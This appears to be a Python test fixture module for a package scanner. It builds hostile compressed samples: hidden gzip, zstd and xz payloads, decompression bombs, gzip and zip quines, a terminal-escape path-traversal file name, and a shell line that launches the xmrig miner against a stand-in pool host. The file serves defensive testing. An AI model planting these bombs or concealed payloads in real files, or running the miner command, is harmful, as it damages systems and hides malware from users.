"""Chapter 3.2 of the catalogue: what compressed streams hide, and what they cost.

All of it is made by Python's own compressors and by hand, so that it is small in this file and on
disk.
"""
import binascii
import bz2
import gzip
import lzma
import struct
import zlib
from typing import List

import images
import quines
from hostile import (EVIL, GOOD, NAME, Elsewhere, Line, clean, found, incomplete, package, row)

MIB = 1 << 20


def gz(data: bytes) -> bytes:
    return gzip.compress(data, 6, mtime=0)


def deflated(data: bytes) -> bytes:
    packer = zlib.compressobj(6, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def member(data: bytes, flags: int = 0, fields: bytes = b"", crc: int = -1, size: int = -1) -> bytes:
    """A gzip member whose header and trailer say what they are told to."""
    trailer = struct.pack("<II", binascii.crc32(data) if crc < 0 else crc,
                          len(data) if size < 0 else size)
    return bytes([0x1f, 0x8b, 8, flags, 0, 0, 0, 0, 0, 255]) + fields + deflated(data) + trailer


def all_fields(name: bytes) -> bytes:
    head = bytes([0x1f, 0x8b, 8, 2 | 4 | 8 | 16, 0, 0, 0, 0, 0, 255])
    fields = struct.pack("<H", 6) + b"ab\x02\x00zz" + name + b"\0" + b"a comment\0"
    checksum = struct.pack("<H", binascii.crc32(head + fields) & 0xffff)
    return head + fields + checksum + deflated(EVIL) + struct.pack("<II", binascii.crc32(EVIL),
                                                                 len(EVIL))


def nested(depth: int) -> bytes:
    data = EVIL
    for _ in range(depth):
        data = gz(data)
    return data


def behind_zeros(mib: int) -> bytes:
    """A tar whose first entry is zeros, and the second the script."""
    from hostile_tars import END, EVIL_ENTRY, header
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = bytes(MIB)
    return (packer.compress(header(b"zeros", mib << 20)) +
            b"".join(packer.compress(zeros) for _ in range(mib)) +
            packer.compress(EVIL_ENTRY + END) + packer.flush())


def xz_with_dictionary(bits: int) -> bytes:
    """An .xz file whose block header asks for a dictionary of 4 GiB (bits = 40)."""
    stream = bytearray(lzma.compress(GOOD, lzma.FORMAT_XZ, lzma.CHECK_CRC32, filters=[
        {"id": lzma.FILTER_LZMA2, "dict_size": 4096}]))
    # Stream header of 12 bytes; then size of the block header, flags, filter 0x21, 1 property.
    assert stream[14] == 0x21 and stream[15] == 1
    stream[16] = bits
    size = (stream[12] + 1) * 4
    stream[12 + size - 4:12 + size] = struct.pack("<I", binascii.crc32(stream[12:12 + size - 4]))
    return bytes(stream)


ZSTD = struct.pack("<I", 0xFD2FB528)


def zstd_rle_bomb(gib: int) -> bytes:
    """One frame with a window of 128 KiB, of blocks that repeat a zero 128 KiB times each."""
    blocks = gib * 1024 * 8
    block = struct.pack("<I", (128 << 10) << 3 | 1 << 1)[:3] + b"\0"
    last = struct.pack("<I", 1 << 3 | 1 << 1 | 1)[:3] + b"\0"
    return ZSTD + bytes([0x00, 7 << 3]) + block * blocks + last


def zstd_frame(descriptor: bytes, data: bytes) -> bytes:
    """A frame of one raw block."""
    return ZSTD + descriptor + struct.pack("<I", len(data) << 3 | 1)[:3] + data


def skippable(data: bytes) -> bytes:
    return struct.pack("<II", 0x184D2A50, len(data)) + data


def lz4_frame(data: bytes) -> bytes:
    return images.subprocess.run(["lz4", "-q", "-c"], input=data, stdout=images.subprocess.PIPE,
                                 check=True).stdout


SEAMS = [1 << 14, 1 << 15, 1 << 16, 1 << 17, 1 << 18, 1 << 19, 1 << 20]


def seam_markers() -> bytes:
    """A command across every boundary that a reader's buffer is likely to have."""
    text = bytearray()
    for number, seam in enumerate(SEAMS):
        command = (f"\nxmrig -o stratum+tcp://pool{number}.rogue.example:3333 "
                   f"-u {images.rogue.wallet()} -p x --tls\n").encode()
        filler = b"echo nothing to see here, go on\n"
        room = seam - len(command) // 2 - len(text)
        text += (filler * (room // len(filler) + 1))[:room]
        text += command
    return gz(b"#!/bin/sh\n" + bytes(text)[10:])


def git_object(data: bytes) -> bytes:
    return zlib.compress(b"blob %d\0" % len(data) + data)


ROWS: List[Line] = [
    row(25, "a later gzip member", package("a.gz", lambda: gz(GOOD) + gz(EVIL)), found("")),
    row(25, "an empty member and then another", package("a.gz", lambda: gz(b"") + gz(EVIL)),
        found("")),
    row(26, "zeros before the next member",
        package("a.gz", lambda: gz(GOOD) + bytes(1000) + gz(EVIL)), found("")),
    row(26, "junk before the next member",
        package("a.gz", lambda: gz(GOOD) + b"junk\x01\x02\x03" * 9 + gz(EVIL)), found("")),
    row(27, "plain bytes after the last member", package("a.gz", lambda: gz(GOOD) + EVIL),
        found("")),
    row(28, "a wrong checksum", package("a.gz", lambda: member(EVIL, crc=7)),
        found("", "checksum that does not match")),
    row(28, "a wrong size", package("a.gz", lambda: member(EVIL, size=7)),
        found("", "a size that does not match")),
    row(29, "a gzip stream cut short", package("a.gz", lambda: gz(GOOD * 50)[:-12]),
        incomplete("decode.truncated")),
    row(29, "a zstd stream cut short",
        package("a.zst", lambda: images.zstd(bytes(range(256)) * 400)[:-20]),
        incomplete("decode.truncated")),
    row(30, "every field of a gzip header", package("a.gz", lambda: all_fields(b"name")), found("")),
    row(30, "a hostile name in a gzip header",
        package("a.gz", lambda: all_fields(b"\x1b]52;c;eA==\x07../../x")), found("")),
    row(31, "reserved flag bits", package("a.gz", lambda: member(EVIL, flags=0xe0)), found("")),
    row(32, "a thousand to one, and the script behind 256 MiB of zeros",
        package("a.tar.gz", lambda: behind_zeros(256)), found(NAME)),
    Elsewhere(33, "92 GiB in some KB of bzip2",
              ["tests/unit/examine/examine_test.cpp: examine: a bomb of bzip2 ends at the limit, inside of gzip too"]),
    row(34, "later bzip2 streams",
        package("a.bz2", lambda: bz2.compress(GOOD) + bz2.compress(EVIL)), found("")),
    row(34, "later xz streams behind padding",
        package("a.xz", lambda: lzma.compress(GOOD) + bytes(8) + lzma.compress(EVIL)), found("")),
    row(35, "an xz dictionary of 4 GiB", package("a.xz", lambda: xz_with_dictionary(40)),
        incomplete("limit.memory", "decode.corrupt")),
    row(36, "9 GiB of zstd's repeated blocks", package("a.zst", lambda: zstd_rle_bomb(9)),
        incomplete("limit.bytes"), slow=True),
    row(36, "a zstd window of 2 GiB",
        package("a.zst", lambda: zstd_frame(bytes([0x00, 21 << 3]), EVIL)),
        incomplete("limit.memory"), found("")),
    row(36, "a zstd dictionary that is not there",
        package("a.zst", lambda: zstd_frame(bytes([0x03, 7 << 3]) + struct.pack("<I", 99), GOOD)),
        incomplete("decode.dictionary")),
    row(37, "a skippable frame first",
        package("a.zst", lambda: skippable(b"nothing") + images.zstd(EVIL)), found("")),
    row(37, "a second zstd frame", package("a.zst", lambda: images.zstd(GOOD) + images.zstd(EVIL)),
        found("")),
    row(37, "the script in a skippable frame",
        package("a.zst", lambda: images.zstd(GOOD) + skippable(EVIL)), found("")),
    row(37, "the script, compressed, in a skippable frame",
        package("a.zst", lambda: images.zstd(GOOD) + skippable(images.zstd(EVIL))), found("")),
    row(37, "the script in a skippable frame of lz4",
        package("a.lz4", lambda: lz4_frame(GOOD) + skippable(EVIL)), found("")),
    row(37, "the script in a gzip header's extra field", package(
        "a.gz", lambda: member(GOOD, 4, struct.pack("<H", len(EVIL)) + EVIL)), found("")),
    row(37, "the script in a gzip header's comment", package(
        "a.gz", lambda: member(GOOD, 16, EVIL + b"\0")), found("")),
    row(38, "12 layers of gzip", package("a.gz", lambda: nested(12)), found("")),
    row(38, "200 layers of gzip", package("a.gz", lambda: nested(200)), incomplete("limit.depth")),
    # Every level is new to a reader that does not compare digests, so that depth ends it.
    row(39, "a gzip stream that decodes to itself", package("a.gz", quines.gzip_quine),
        incomplete("limit.depth")),
    row(39, "a zip whose only member is the zip", package("a.zip", quines.zip_quine),
        incomplete("limit.depth")),
    row(39, "a zip whose only member is the zip, by another name",
        package("a.bin", lambda: quines.zip_quine(b"a/b")), incomplete("limit.depth")),
    row(40, "a command across every seam", package("a.sh.gz", seam_markers), found("")),
    row(41, "legacy .lzma",
        package("a.lzma", lambda: lzma.compress(EVIL * 20, lzma.FORMAT_ALONE)), found("")),
    row(41, "a loose object of git", package("0123", lambda: git_object(EVIL)), found("")),
    row(41, "lz4", package("a.lz4", lambda: lz4_frame(EVIL)), found("")),
    row(41, "compress(1)", package("a.Z", b"\x1f\x9d\x90" + b"e\xce\xd2\xa5\x01" * 9),
        incomplete("decode.unsupported")),
    row(42, "a deflate stream without a header", package("a.bin", lambda: deflated(EVIL * 3)),
        found(""), clean()),
    Elsewhere(43, "decoders at their slowest", ["test_workers.py"]),
]
